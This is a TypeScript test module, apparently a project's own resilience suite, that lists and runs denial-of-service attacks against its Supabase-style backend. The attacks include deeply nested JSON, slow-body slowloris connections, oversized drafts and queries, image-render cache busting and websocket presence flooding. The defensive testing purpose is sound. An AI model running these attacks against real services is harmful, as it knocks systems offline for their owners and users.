import { randomUUID } from "node:crypto";
import { once } from "node:events";
import { connect } from "node:net";
import { setTimeout as delay } from "node:timers/promises";
import { WebSocket } from "ws";
import type { FieldsJson } from "../../app/data/json.types.ts";
import { updateOf } from "../support/drafts.ts";
import { attackHeaders, type Target } from "./target.ts";

/** An attack: `clients` concurrent loops, each of which calls `attempt` repeatedly. */
export type Attack = {
  name: string;
  clients: number;
  /** @returns the outcome: a status, or a word. */
  attempt: (target: Target, signal: AbortSignal) => Promise<number | string>;
};

const DEEP = "[".repeat(5500) + "]".repeat(5500);
const LONG_QUERY = JSON.stringify({ query: "word ".repeat(400_000) });
const NINE_DEEP = embed(9);
const EMPTY_LISTS = `[${Array(300_000).fill("[]").join(",")}]`;
const SLASHES = "/".repeat(1_000_000);
const ALIASES = Array.from({ length: 300 }, (_, index) => `a${index}:content`).join(",");

/** Known weaknesses, each as it was found. */
export const ATTACKS: readonly Attack[] = [
  {
    name: "JSON of 5,500 levels as an argument",
    clients: 20,
    attempt: (target, signal) =>
      post(target, signal, "/rest/v1/rpc/search_articles", `{"query":${DEEP}}`),
  },
  { name: "bodies of a byte a second", clients: 30, attempt: sendSlowly },
  {
    name: "relations nine deep",
    clients: 4,
    attempt: (target, signal) => get(target, signal, `/rest/v1/categories?select=${NINE_DEEP}`),
  },
  {
    name: "a column under 300 names",
    clients: 4,
    attempt: (target, signal) => get(target, signal, `/rest/v1/articles?select=${ALIASES}`),
  },
  {
    name: "refused inserts of nested documents, with an account",
    clients: 4,
    attempt: (target, signal) =>
      post(target, signal, "/rest/v1/articles", deepArticle(90, 20_000), true),
  },
  { name: "sockets of 100 channels with presence", clients: 10, attempt: fillSocket },
  {
    name: "searches for 2 MB, with an account",
    clients: 8,
    attempt: (target, signal) =>
      post(target, signal, "/rest/v1/rpc/search_articles", LONG_QUERY, true),
  },
  {
    name: "images of ever new sizes and qualities",
    clients: 8,
    attempt: (target, signal) => askForImage(target, signal, 5000),
  },
  {
    name: "images, left before they come",
    clients: 8,
    attempt: (target, signal) => askForImage(target, signal, 50),
  },
  {
    name: "uncached pages",
    clients: 20,
    attempt: (target, signal) => get(target, signal, `/search?q=${randomWord()}`),
  },
  {
    name: "articles of 300,000 empty lists, with an account",
    clients: 4,
    attempt: (target, signal) =>
      post(
        target,
        signal,
        "/rest/v1/articles",
        `{"title":"Lists","slug":"${randomWord()}","content":{"main":${EMPTY_LISTS}}}`,
        true,
      ),
  },
  {
    name: "drafts of 300,000 empty lists, by a contributor",
    clients: 4,
    attempt: saveDraft({ tags: JSON.parse(EMPTY_LISTS) }),
  },
  {
    name: "drafts of 200,000 tags, by a contributor",
    clients: 4,
    attempt: saveDraft({ tags: Array(200_000).fill("tag") }),
  },
  {
    name: "previews of the longest draft, with its link",
    clients: 2,
    attempt: (target, signal) => get(target, signal, target.previewPath),
  },
  {
    name: "folders named by a megabyte of slashes",
    clients: 4,
    attempt: (target, signal) =>
      post(target, signal, "/storage/v1/object/list/article-images", `{"prefix":"${SLASHES}"}`),
  },
  { name: "subscriptions to patterns of 4 kB of backslashes", clients: 4, attempt: subscribe },
  {
    name: "arguments with names of 900 kB",
    clients: 1,
    attempt: (target, signal) =>
      post(target, signal, "/rest/v1/rpc/search_articles", `{"${"name ".repeat(180_000)}":1}`),
  },
];

/** Saves a new draft whose document has these fields. */
function saveDraft(fields: FieldsJson): Attack["attempt"] {
  const update = updateOf(null, fields);
  return ({ contributorToken, ...target }, signal) =>
    post(
      { ...target, contributorToken, accountToken: contributorToken },
      signal,
      "/rest/v1/rpc/save_draft",
      JSON.stringify({ article_id: randomUUID(), lineage: "new", known_seq: 0, update }),
      true,
    );
}

function embed(levels: number): string {
  if (levels === 0) return "*";
  return levels % 2 === 1
    ? `*,articles(${embed(levels - 1)})`
    : `*,categories(${embed(levels - 1)})`;
}

function deepArticle(levels: number, letters: number): string {
  const open = '[{"type":"list","children":'.repeat(levels / 2);
  const content = `${open}"${"x".repeat(letters)}"${"}]".repeat(levels / 2)}`;
  return `{"title":"Deep","slug":"${randomWord()}","content":{"main":${content}}}`;
}

const randomWord = () => Math.random().toString(36).slice(2);

async function get(target: Target, signal: AbortSignal, path: string): Promise<number> {
  const answer = await fetch(target.url + path, { headers: attackHeaders(target), signal });
  await answer.arrayBuffer();
  return answer.status;
}

async function post(
  target: Target,
  signal: AbortSignal,
  path: string,
  body: string,
  isAccount = false,
): Promise<number> {
  const headers = { ...attackHeaders(target, isAccount), "Content-Type": "application/json" };
  const answer = await fetch(target.url + path, { method: "POST", headers, body, signal });
  await answer.arrayBuffer();
  return answer.status;
}

async function askForImage(target: Target, signal: AbortSignal, timeoutMs: number) {
  const size = () => 200 + Math.floor(Math.random() * 2000);
  const quality = 20 + Math.floor(Math.random() * 80);
  const path = `/storage/v1/render/image/public/article-images/attack.png`;
  const query = `width=${size()}&height=${size()}&quality=${quality}&resize=fill`;
  const ends = AbortSignal.any([signal, AbortSignal.timeout(timeoutMs)]);
  return get(target, ends, `${path}?${query}`);
}

/** Sends a body byte by byte until the site closes the connection. */
async function sendSlowly(target: Target, signal: AbortSignal): Promise<string> {
  const { hostname, port } = new URL(target.url);
  const socket = connect(Number(port), hostname);
  signal.addEventListener("abort", () => socket.destroy(), { once: true });
  socket.on("error", () => undefined);
  let answer = "cut";
  socket.on("data", (data) => {
    answer = String(data).slice(9, 12);
  });
  await once(socket, "connect");
  const lines = Object.entries(attackHeaders(target)).map(
    ([name, value]) => `${name}: ${value}\r\n`,
  );
  socket.write(
    `POST /rest/v1/rpc/search_articles HTTP/1.1\r\nHost: ${hostname}\r\n${lines.join("")}` +
      "Content-Type: application/json\r\nContent-Length: 1000000\r\n\r\n",
  );
  const timer = setInterval(() => socket.write(" "), 1000);
  await once(socket, "close").finally(() => clearInterval(timer));
  return answer;
}

/** Joins twenty channels with fifteen filters each, then closes the socket. */
async function subscribe(target: Target, signal: AbortSignal): Promise<string> {
  const socket = await openSocket(target, signal);
  const closed = once(socket, "close").then(() => "closed");
  const filter = `title=like.${"\\".repeat(4080)}x`;
  const change = { event: "*", schema: "public", table: "articles", filter };
  const config = { postgres_changes: Array.from({ length: 15 }, () => change) };
  for (let number = 0; number < 20 && socket.readyState === socket.OPEN; number += 1) {
    const topic = `realtime:patterns-${number}`;
    socket.send(JSON.stringify(["1", `${number}`, topic, "phx_join", { config }]));
    await delay(60, undefined, { signal });
  }
  socket.close();
  return closed;
}

async function openSocket(target: Target, signal: AbortSignal): Promise<WebSocket> {
  const url = `${target.url.replace("http", "ws")}/realtime/v1/websocket?apikey=${target.apikey}&vsn=2.0.0`;
  const socket = new WebSocket(url, { headers: attackHeaders(target) });
  socket.on("error", () => socket.terminate());
  await once(socket, "open", { signal });
  signal.addEventListener("abort", () => socket.terminate(), { once: true });
  return socket;
}

/** Joins a hundred channels with 250 kB of presence each, then keeps the socket open. */
async function fillSocket(target: Target, signal: AbortSignal): Promise<string> {
  const socket = await openSocket(target, signal);
  const closed = once(socket, "close").then(() => "closed");
  const meta = { name: "n".repeat(250_000) };
  for (let number = 0; number < 100 && socket.readyState === socket.OPEN; number += 1) {
    const topic = `realtime:attack-${number}`;
    const join = { config: { presence: { enabled: true, key: randomWord() } } };
    socket.send(JSON.stringify(["1", `${number}`, topic, "phx_join", join]));
    const payload = { type: "presence", event: "track", payload: meta };
    socket.send(JSON.stringify(["1", `p${number}`, topic, "presence", payload]));
    await delay(60, undefined, { signal });
  }
  const held = delay(10_000, "held", { signal, ref: false });
  const end = await Promise.race([closed, held]);
  socket.terminate();
  return end;
}
